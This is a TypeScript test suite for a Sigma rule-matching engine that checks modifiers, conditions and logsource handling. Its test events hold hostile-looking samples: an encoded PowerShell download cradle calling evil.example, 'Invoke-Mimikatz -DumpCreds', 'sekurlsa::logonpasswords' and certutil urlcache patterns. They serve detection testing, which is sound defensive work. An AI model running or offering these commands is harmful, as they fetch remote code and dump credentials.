import { describe, expect, it } from 'vitest';
import { createSigmaEngine, type SigmaRule } from '../src/index.ts';

const WIN_PROC = { product: 'windows', category: 'process_creation' };

function rule(detection: Record<string, unknown>, extra: Partial<SigmaRule> = {}): SigmaRule {
  return {
    id: 'r1',
    title: 'test rule',
    status: 'test',
    level: 'high',
    logsource: WIN_PROC,
    detection,
    raw_yaml: "title: test rule\nauthor: 'Jane Doe, ACME'\n",
    ...extra,
  };
}

/** Compiles one rule and tells whether it matches the event; fails the test when the rule does not compile. */
function matches(detection: Record<string, unknown>, event: Record<string, unknown>): boolean {
  const engine = createSigmaEngine([rule(detection)]);
  expect(engine.notCompiled).toEqual([]);
  return engine.match(event, [WIN_PROC]).length === 1;
}

function reasonOf(detection: Record<string, unknown>): string | undefined {
  return createSigmaEngine([rule(detection)]).notCompiled[0]?.reason;
}

describe('values', () => {
  it('compares case-insensitively by default and case-sensitively with cased', () => {
    expect(
      matches(
        { s: { Image: 'C:\\Windows\\System32\\CMD.exe' }, condition: 's' },
        { Image: 'c:\\windows\\system32\\cmd.EXE' },
      ),
    ).toBe(true);
    expect(matches({ s: { 'Image|cased': 'CMD.exe' }, condition: 's' }, { Image: 'cmd.exe' })).toBe(false);
    expect(matches({ s: { 'Image|cased': 'CMD.exe' }, condition: 's' }, { Image: 'CMD.exe' })).toBe(true);
  });

  it('treats * and ? as wildcards, escaped ones and other backslashes as literal', () => {
    expect(matches({ s: { CommandLine: '*-enc *' }, condition: 's' }, { CommandLine: 'powershell -enc AAAA' })).toBe(
      true,
    );
    expect(matches({ s: { CommandLine: 'a?c' }, condition: 's' }, { CommandLine: 'abc' })).toBe(true);
    expect(matches({ s: { CommandLine: 'a?c' }, condition: 's' }, { CommandLine: 'abbc' })).toBe(false);
    expect(matches({ s: { CommandLine: 'a\\*c' }, condition: 's' }, { CommandLine: 'abc' })).toBe(false);
    expect(matches({ s: { CommandLine: 'a\\*c' }, condition: 's' }, { CommandLine: 'a*c' })).toBe(true);
    expect(matches({ s: { 'Image|endswith': '\\cmd.exe' }, condition: 's' }, { Image: 'C:\\x\\cmd.exe' })).toBe(true);
    expect(matches({ s: { 'Image|endswith': '\\cmd.exe' }, condition: 's' }, { Image: 'C:\\x\\notcmd.exe' })).toBe(
      false,
    );
  });

  it('matches numbers against numeric strings, null against a missing or null field', () => {
    expect(matches({ s: { EventID: 4688 }, condition: 's' }, { EventID: '4688' })).toBe(true);
    expect(matches({ s: { EventID: [1, 4688] }, condition: 's' }, { EventID: 4689 })).toBe(false);
    expect(matches({ s: { ParentUser: null }, condition: 's' }, {})).toBe(true);
    expect(matches({ s: { ParentUser: null }, condition: 's' }, { ParentUser: null })).toBe(true);
    expect(matches({ s: { ParentUser: null }, condition: 's' }, { ParentUser: 'x' })).toBe(false);
  });

  it('looks field names up case-insensitively and nested objects by dotted path', () => {
    expect(matches({ s: { commandline: 'x' }, condition: 's' }, { CommandLine: 'X' })).toBe(true);
    expect(
      matches(
        { s: { 'userIdentity.arn|endswith': ':root' }, condition: 's' },
        { userIdentity: { arn: 'arn:aws:iam::1:root' } },
      ),
    ).toBe(true);
  });
});

describe('modifiers', () => {
  it('contains, startswith, endswith and all', () => {
    const d = { s: { 'CommandLine|contains|all': [' -nop ', ' -w hidden '] }, condition: 's' };
    expect(matches(d, { CommandLine: 'powershell -nop -w hidden -c x' })).toBe(true);
    expect(matches(d, { CommandLine: 'powershell -nop -c x' })).toBe(false);
    expect(
      matches(
        { s: { 'CommandLine|contains': [' -nop ', ' -w hidden '] }, condition: 's' },
        { CommandLine: 'powershell -nop -c x' },
      ),
    ).toBe(true);
    expect(
      matches({ s: { 'Image|startswith': 'C:\\Users\\' }, condition: 's' }, { Image: 'c:\\users\\bob\\a.exe' }),
    ).toBe(true);
  });

  it('re is case-sensitive unless |i, and honours |m and |s and a leading (?i)', () => {
    expect(matches({ s: { 'CommandLine|re': 'IEX\\s*\\(' }, condition: 's' }, { CommandLine: 'iex (x)' })).toBe(false);
    expect(matches({ s: { 'CommandLine|re|i': 'IEX\\s*\\(' }, condition: 's' }, { CommandLine: 'iex (x)' })).toBe(true);
    expect(matches({ s: { 'CommandLine|re': '(?i)IEX\\s*\\(' }, condition: 's' }, { CommandLine: 'iex (x)' })).toBe(
      true,
    );
    expect(matches({ s: { 'ScriptBlockText|re|s': 'a.b' }, condition: 's' }, { ScriptBlockText: 'a\nb' })).toBe(true);
    expect(matches({ s: { 'ScriptBlockText|re|m': '^b$' }, condition: 's' }, { ScriptBlockText: 'a\nb' })).toBe(true);
    expect(matches({ s: { 'ScriptBlockText|re': '^b$' }, condition: 's' }, { ScriptBlockText: 'a\nb' })).toBe(false);
  });

  it('cidr for IPv4 and IPv6', () => {
    const d = { s: { 'DestinationIp|cidr': ['10.0.0.0/8', 'fe80::/10'] }, condition: 's' };
    expect(matches(d, { DestinationIp: '10.20.30.40' })).toBe(true);
    expect(matches(d, { DestinationIp: '11.0.0.1' })).toBe(false);
    expect(matches(d, { DestinationIp: 'fe80::1c2:3' })).toBe(true);
    expect(matches(d, { DestinationIp: 'fec0::1' })).toBe(false);
  });

  it('base64offset finds a value encoded at any byte offset, base64 only at offset 0', () => {
    const d = { s: { 'CommandLine|base64offset|contains': 'http://' }, condition: 's' };
    for (const prefix of ['', 'a', 'ab', 'abc', "IEX (New-Object Net.WebClient).DownloadString('"]) {
      const encoded = Buffer.from(`${prefix}http://evil.example/x`).toString('base64');
      expect(matches(d, { CommandLine: `powershell -enc ${encoded}` }), prefix).toBe(true);
    }
    expect(matches(d, { CommandLine: `powershell -enc ${Buffer.from('https://ok').toString('base64')}` })).toBe(false);
    // base64 encodes the whole value, padding included: a 6-byte value has none, so it can be found inside.
    const plain = { s: { 'CommandLine|base64|contains': 'http:/' }, condition: 's' };
    expect(matches(plain, { CommandLine: Buffer.from('http://x').toString('base64') })).toBe(true);
    expect(matches(plain, { CommandLine: Buffer.from('ahttp://x').toString('base64') })).toBe(false);
  });

  it('wide (UTF-16LE) before base64offset, as PowerShell -EncodedCommand carries it', () => {
    const d = { s: { 'CommandLine|wide|base64offset|contains': 'Invoke-Mimikatz' }, condition: 's' };
    for (const prefix of ['', 'x', 'xy']) {
      const encoded = Buffer.from(`${prefix}Invoke-Mimikatz -DumpCreds`, 'utf16le').toString('base64');
      expect(matches(d, { CommandLine: `powershell -e ${encoded}` }), prefix).toBe(true);
    }
    expect(matches(d, { CommandLine: Buffer.from('Invoke-Mimikatz').toString('base64') })).toBe(false);
  });

  it('windash matches -, /, en dash, em dash and horizontal bar', () => {
    const d = { s: { 'CommandLine|contains|windash': ' -urlcache ' }, condition: 's' };
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015'])
      expect(matches(d, { CommandLine: `certutil ${dash}urlcache -f x` }), dash).toBe(true);
    expect(matches(d, { CommandLine: 'certutil +urlcache' })).toBe(false);
  });

  it('fieldref, exists and numeric comparisons', () => {
    expect(
      matches({ s: { 'User|fieldref': 'ParentUser' }, condition: 's' }, { User: 'A\\b', ParentUser: 'a\\B' }),
    ).toBe(true);
    expect(matches({ s: { 'User|fieldref': 'ParentUser' }, condition: 's' }, { User: 'a', ParentUser: 'b' })).toBe(
      false,
    );
    expect(matches({ s: { 'Hashes|exists': true }, condition: 's' }, { Hashes: 'x' })).toBe(true);
    expect(matches({ s: { 'Hashes|exists': false }, condition: 's' }, { Hashes: 'x' })).toBe(false);
    expect(matches({ s: { 'Port|gte': 1024 }, condition: 's' }, { Port: '1024' })).toBe(true);
    expect(matches({ s: { 'Port|lt': 1024 }, condition: 's' }, { Port: 1024 })).toBe(false);
  });
});

describe('conditions and selections', () => {
  const d = {
    selection_img: { 'Image|endswith': ['\\powershell.exe', '\\pwsh.exe'] },
    selection_cli: [{ 'CommandLine|contains': ' -enc ' }, { 'CommandLine|contains': ' -e ' }],
    filter_main: { ParentImage: 'C:\\Windows\\ccmexec.exe' },
    _helper: { User: 'never' },
  };
  const ps = { Image: 'C:\\w\\powershell.exe', CommandLine: 'powershell -enc AA', ParentImage: 'C:\\x\\explorer.exe' };

  it('all of, 1 of, not, and parentheses with not binding tighter than and, and than or', () => {
    expect(matches({ ...d, condition: 'all of selection_* and not filter_main' }, ps)).toBe(true);
    expect(
      matches(
        { ...d, condition: 'all of selection_* and not filter_main' },
        { ...ps, ParentImage: 'c:\\windows\\ccmexec.exe' },
      ),
    ).toBe(false);
    expect(matches({ ...d, condition: 'all of selection_*' }, { ...ps, CommandLine: 'powershell -c x' })).toBe(false);
    expect(matches({ ...d, condition: '1 of selection_*' }, { ...ps, CommandLine: 'powershell -c x' })).toBe(true);
    expect(matches({ ...d, condition: 'not selection_img or selection_cli and filter_main' }, ps)).toBe(false);
    expect(matches({ ...d, condition: '(not selection_img or selection_cli) and not filter_main' }, ps)).toBe(true);
  });

  it('them leaves out selections starting with _', () => {
    expect(matches({ ...d, condition: 'all of them' }, ps)).toBe(false);
    expect(
      matches(
        {
          selection_img: d.selection_img,
          selection_cli: d.selection_cli,
          _helper: d._helper,
          condition: 'all of them',
        },
        ps,
      ),
    ).toBe(true);
  });

  it('keywords search every value of the event', () => {
    const k = { keywords: ['Mimikatz', 'sekurlsa::'], condition: 'keywords' };
    expect(matches(k, { a: 'x', b: 'privilege::debug sekurlsa::logonpasswords' })).toBe(true);
    expect(matches(k, { a: 'x', b: 'notepad' })).toBe(false);
  });
});

describe('rules the engine cannot compile are reported with the reason', () => {
  it('aggregation, unknown modifiers, expand, unknown selections', () => {
    expect(reasonOf({ s: { EventID: 4625 }, condition: 's | count() by IpAddress > 10' })).toMatch(/aggregation/);
    expect(reasonOf({ s: { 'Image|sounds_like': 'x' }, condition: 's' })).toBe(
      "unknown modifier 'sounds_like' on 'Image|sounds_like' in selection 's'",
    );
    expect(reasonOf({ s: { 'Attributes|contains|expand': '%known_cdcs%' }, condition: 's' })).toMatch(/expand/);
    expect(reasonOf({ s: { Image: 'x' }, condition: 's and t' })).toMatch(/unknown selection 't'/);
    expect(reasonOf({ s: { 'CommandLine|re': '(?<=a' }, condition: 's' })).toMatch(/does not compile/);
  });

  it('a bad rule does not stop the others', () => {
    const engine = createSigmaEngine([
      rule({ s: { 'X|nope': 1 }, condition: 's' }, { id: 'bad' }),
      rule({ s: { Image: 'a' }, condition: 's' }, { id: 'good' }),
    ]);
    expect(engine.notCompiled.map((r) => r.id)).toEqual(['bad']);
    expect(engine.match({ Image: 'A' }, [WIN_PROC]).map((h) => h.id)).toEqual(['good']);
  });
});

describe('logsources and hits', () => {
  it('evaluates only rules of the event logsource and keeps the attribution on each hit', () => {
    const engine = createSigmaEngine([
      rule({ s: { Image: 'a' }, condition: 's' }, { id: 'proc', attack_techniques: ['T1059.001'] }),
      rule(
        { s: { Image: 'a' }, condition: 's' },
        { id: 'linux', logsource: { product: 'linux', category: 'process_creation' } },
      ),
      rule(
        { s: { Image: 'a' }, condition: 's' },
        { id: 'sysmon', logsource: { product: 'windows', service: 'sysmon' } },
      ),
    ]);
    const hits = engine.match({ Image: 'a' }, [
      { product: 'windows', category: 'process_creation', service: 'sysmon' },
    ]);
    expect(hits.map((h) => h.id).sort()).toEqual(['proc', 'sysmon']);
    expect(hits.find((h) => h.id === 'proc')).toEqual({
      id: 'proc',
      title: 'test rule',
      author: 'Jane Doe, ACME',
      level: 'high',
      status: 'test',
      techniques: ['T1059.001'],
      tags: [],
    });
    expect(engine.applicability([{ product: 'windows', category: 'process_creation' }])).toEqual({
      applicable: 1,
      notApplicable: 2,
    });
    expect(engine.match({ Image: 'a' }, [])).toEqual([]);
  });
});
